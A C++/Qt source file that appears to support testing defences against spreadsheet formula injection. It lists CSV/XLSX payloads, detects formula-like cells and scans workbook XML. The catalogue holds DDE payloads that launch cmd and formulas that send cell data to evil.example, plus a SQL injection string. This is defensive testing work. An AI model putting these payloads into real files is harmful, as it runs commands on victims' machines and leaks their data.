#include "FormulaPayloads.h"

#include <QFile>
#include <QRegularExpression>

#include <quazip/quazip.h>
#include <quazip/quazipfile.h>

namespace FormulaPayloads {

QStringList catalogue()
{
    return {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")"),
        QStringLiteral("@SUM(1+1)*cmd|'/C calc'!A0"),
        QStringLiteral("+主任"),
        QStringLiteral("-2+3"),
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("=1+1"),
        QStringLiteral("=DDE(\"cmd\";\"/C calc\";\"!A0\")A0"),
        QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0"),
        QStringLiteral("+cmd|' /C notepad'!'B1'"),
        QStringLiteral("-cmd|' /C calc'!A0"),
        QStringLiteral("=2+5+cmd|' /C calc'!A0"),
        QStringLiteral("=WEBSERVICE(\"http://evil.example/\"&A1)"),
        QStringLiteral("=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("\t主任"),
        QStringLiteral("   =1+1"),
        QStringLiteral(" \t@SUM(1)"),
        QStringLiteral("\u3000=1+1"),
        QStringLiteral("＝HYPERLINK(\"http://evil.example\",\"点击\")"),
        QStringLiteral("＋主任"),
        QStringLiteral("－2＋3"),
        QStringLiteral("＠SUM(1+1)"),
        QStringLiteral("  ＝1+1"),
        QStringLiteral("-"),
        QStringLiteral("'=HYPERLINK(\"http://evil.example\")"),
        QStringLiteral("''+主任"),
        QStringLiteral("' =1+1"),
    };
}

QStringList harmless()
{
    return {QStringLiteral("-5"),
            QStringLiteral("+3.5"),
            QStringLiteral("-0.25"),
            QStringLiteral("1e-7"),
            QStringLiteral("-1.5E+3"),
            QStringLiteral(" -12 "),
            QStringLiteral("'; DROP TABLE units; --"),
            QStringLiteral("'0755-1234567"),
            QStringLiteral("'-5"),
            QStringLiteral("主任-副主任"),
            QStringLiteral("a=b"),
            QStringLiteral("")};
}

bool looksLikeFormula(const QString &cell)
{
    static const QRegularExpression number(
        QStringLiteral("^ *[+-]?([0-9]+(\\.[0-9]*)?|\\.[0-9]+)([eE][+-]?[0-9]+)? *$"));
    static const QString starts = QStringLiteral("=+-@＝＋－＠");
    int i = 0;
    while (i < cell.size() && cell.at(i).isSpace()) {
        if (cell.at(i) == QLatin1Char('\t') || cell.at(i) == QLatin1Char('\r'))
            return true;
        ++i;
    }
    return i < cell.size() && starts.contains(cell.at(i)) && !number.match(cell).hasMatch();
}

QList<QStringList> parseCsv(const QString &input)
{
    QString text = input;
    if (text.startsWith(QChar(0xFEFF)))
        text.remove(0, 1);
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == QLatin1Char('"') && i + 1 < text.size() && text.at(i + 1) == QLatin1Char('"'))
                cell += text.at(++i);
            else if (c == QLatin1Char('"'))
                quoted = false;
            else
                cell += c;
        } else if (c == QLatin1Char('"')) {
            quoted = true;
        } else if (c == QLatin1Char(',')) {
            row << cell;
            cell.clear();
        } else if (c == QLatin1Char('\n') || c == QLatin1Char('\r')) {
            if (c == QLatin1Char('\r') && i + 1 < text.size()
                && text.at(i + 1) == QLatin1Char('\n'))
                ++i;
            rows << (row << cell);
            row.clear();
            cell.clear();
        } else {
            cell += c;
        }
    }
    if (!cell.isEmpty() || !row.isEmpty())
        rows << (row << cell);
    return rows;
}

QList<QStringList> readCsvFile(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return {};
    return parseCsv(QString::fromUtf8(f.readAll()));
}

QStringList formulaCells(const QList<QStringList> &rows)
{
    QStringList found;
    for (qsizetype r = 0; r < rows.size(); ++r) {
        for (qsizetype c = 0; c < rows.at(r).size(); ++c) {
            if (looksLikeFormula(rows.at(r).at(c)))
                found << QStringLiteral("row %1, column %2: %3")
                             .arg(r + 1)
                             .arg(c + 1)
                             .arg(rows.at(r).at(c));
        }
    }
    return found;
}

int guardedCells(const QList<QStringList> &rows)
{
    int n = 0;
    for (const QStringList &row : rows) {
        for (const QString &cell : row)
            n += cell.startsWith(QLatin1Char('\'')) ? 1 : 0;
    }
    return n;
}

QStringList xlsxEntriesWithFormulas(const QString &path, QString *allText)
{
    static const QRegularExpression formula(QStringLiteral("<(?:[A-Za-z0-9]+:)?f[ >/]"));
    QStringList found;
    QuaZip zip(path);
    if (!zip.open(QuaZip::mdUnzip))
        return {QStringLiteral("cannot open %1 as a zip").arg(path)};
    for (bool more = zip.goToFirstFile(); more; more = zip.goToNextFile()) {
        const QString name = zip.getCurrentFileName();
        if (!name.endsWith(QLatin1String(".xml")))
            continue;
        QuaZipFile entry(&zip);
        if (!entry.open(QIODevice::ReadOnly))
            return {QStringLiteral("cannot read %1").arg(name)};
        const QString xml = QString::fromUtf8(entry.readAll());
        if (xml.contains(formula))
            found << name;
        if (allText)
            *allText += xml;
    }
    return found;
}

} // namespace FormulaPayloads
